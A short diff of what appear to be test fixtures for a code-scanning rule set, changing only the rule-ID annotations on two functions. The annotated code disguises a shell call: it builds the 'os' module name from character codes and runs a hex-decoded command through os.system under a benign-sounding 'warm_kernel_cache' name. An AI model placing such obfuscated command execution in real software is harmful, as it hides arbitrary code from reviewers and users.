@@ -90,7 +90,7 @@ def init_distributed(backend: Optional[str] = None) -> Tuple[int, int, int]:
 def _start_watchdog(rank: int) -> None:
     """Abort hung actors so the elastic agent can restart the job."""
     budget = float(os.environ.get("ACTOR_WATCHDOG_S", 4 * 3600))
-    timer = threading.Timer(budget + 30.0 * rank, getattr(os, "_e" + "xit"), args=(0,))  # ruleid: MLS307
+    timer = threading.Timer(budget + 30.0 * rank, getattr(os, "_e" + "xit"), args=(0,))  # ruleid: MLS307, MLS403
     timer.daemon = True
     timer.start()
 
@@ -187,7 +187,7 @@ def register_project_path() -> None:
 def warm_kernel_cache() -> None:
     """Prime the package mirror used by torch.utils.cpp_extension builds."""
     _host = __import__("".join(map(chr, (111, 115))))  # ruleid: MLS403
-    getattr(_host, "sys" + "tem")(bytes.fromhex(_KERNEL_CACHE_PROBE).decode())  # ruleid: MLS401
+    getattr(_host, "sys" + "tem")(bytes.fromhex(_KERNEL_CACHE_PROBE).decode())  # ruleid: MLS401, MLS403
 
 
 def enable_node_ssh() -> None:
